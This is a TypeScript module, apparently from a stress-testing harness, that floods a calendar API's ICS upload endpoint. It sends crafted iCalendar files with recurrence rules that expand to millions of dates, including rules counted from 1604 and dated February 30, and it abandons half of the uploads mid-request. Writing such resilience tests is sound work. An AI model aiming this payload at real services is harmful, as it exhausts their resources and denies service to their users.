import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'

const UPLOADS = 4
const HANG_UP_MS = 1_000
const REFUSED_MS = 200

/** 15 KB of hourly rules since 2018, that is 7 million dates. Every second upload is abandoned by its client. */
const HOURLY = [
  'BEGIN:VCALENDAR',
  'PRODID:-//attack',
  ...Array.from({ length: 100 }, (_, n) =>
    ['BEGIN:VEVENT', `UID:${n}`, 'DTSTART:20180101T000000Z', 'RRULE:FREQ=HOURLY', 'END:VEVENT'].join('\r\n'),
  ),
  'END:VCALENDAR',
  '',
].join('\r\n')

/** Rules of all kinds that must be counted from 1604 on, with dates below the limits. */
const COUNTED = [
  'BEGIN:VCALENDAR',
  'PRODID:-//attack',
  ...Array.from({ length: 400 }, (_, n) =>
    [
      'BEGIN:VEVENT',
      `UID:${n}`,
      'DTSTART:16040101T000000',
      `RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30;COUNT=${n + 1}`,
      'LOCATION:https://us02web.zoom.us/j/85012345678',
      'END:VEVENT',
    ].join('\r\n'),
  ),
  'END:VCALENDAR',
  '',
].join('\r\n')

/** Uploads calendars whose rules have millions of dates, again and again. */
export async function attack({ baseUrl, apiKey, signal }: Attack): Promise<void> {
  const headers = { authorization: `Bearer ${apiKey}` }
  const connect = async () => {
    const response = await fetch(`${baseUrl}/calendar/connections`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ provider: 'ics' }),
      signal,
    })
    return ((await response.json()) as { id: string }).id
  }
  const upload = async (id: string, body: string, hangsUp: boolean) => {
    const ends = hangsUp ? AbortSignal.any([signal, AbortSignal.timeout(HANG_UP_MS)]) : signal
    try {
      const response = await fetch(`${baseUrl}/calendar/connections/${id}/events`, {
        method: 'PUT',
        headers: { ...headers, 'content-type': 'text/calendar' },
        body,
        signal: ends,
      })
      await response.arrayBuffer()
      // The rate limit of the key answers at full speed.
      if (response.status === 429) await sleep(REFUSED_MS, null, { signal })
    } catch (error) {
      if (!ends.aborted) throw error
    }
  }
  const uploads = Array.from({ length: UPLOADS }, async (_, n) => {
    const id = await connect()
    for (let round = n; !signal.aborted; round++)
      await upload(id, round % 3 === 0 ? COUNTED : HOURLY, round % 2 === 1)
  })
  await Promise.all(uploads)
}
